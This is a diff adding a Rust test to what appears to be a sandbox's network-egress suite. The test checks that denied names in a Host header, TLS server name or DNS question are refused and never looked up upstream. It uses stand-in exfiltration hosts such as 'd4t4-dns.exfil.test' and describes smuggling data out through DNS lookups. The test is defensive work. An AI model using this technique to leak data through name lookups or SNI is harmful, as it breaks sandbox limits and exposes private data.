@@ -382,3 +382,37 @@ async fn a_large_download_arrives_whole_and_is_counted() {
     assert!(c.bytes_out > 20 && c.bytes_out < 512, "{c:?}");
     fx.finish().await;
 }
+
+/// Issue 27, finding 5: with internet off and one allowed domain, a name the sandbox puts in a
+/// `Host` header, a TLS server name or a DNS question is never looked up upstream unless an
+/// allow rule matches it (a lookup would carry `<data>.exfil.test` out through DNS).
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn denied_names_never_reach_the_upstream_resolver() {
+    let fx = Fixture::new("eexf").await;
+    let gw = fx.net().config().gateway();
+    let ca = fx.lab().ca_pem.clone();
+    let sbx = fx
+        .sandbox("exf", policy(false, &["allowed.test"], &[]))
+        .await;
+
+    let host = http(&sbx, WEB_A, 80, "d4t4-host.exfil.test").await;
+    assert!(host.is_err(), "a denied Host was let through: {host:?}");
+    let sni = https(&sbx, WEB_A, "d4t4-sni.exfil.test", &ca).await;
+    assert!(sni.is_err(), "a denied SNI was let through: {sni:?}");
+    let q = dns(&sbx, gw, "d4t4-dns.exfil.test").await.expect("dns");
+    assert_eq!(q.code, ResponseCode::Refused);
+    // The allowed name still works, looked up as before.
+    assert!(http(&sbx, WEB_A, 80, "allowed.test").await.is_ok());
+    assert!(https(&sbx, WEB_A, "allowed.test", &ca).await.is_ok());
+
+    let seen = fx.lab().seen.dns_names();
+    assert!(
+        seen.iter().all(|n| !n.contains("exfil")),
+        "the fake resolver was asked a denied name: {seen:?}"
+    );
+    assert!(
+        seen.iter().any(|n| n == "allowed.test"),
+        "the allowed name is looked up: {seen:?}"
+    );
+    fx.finish().await;
+}
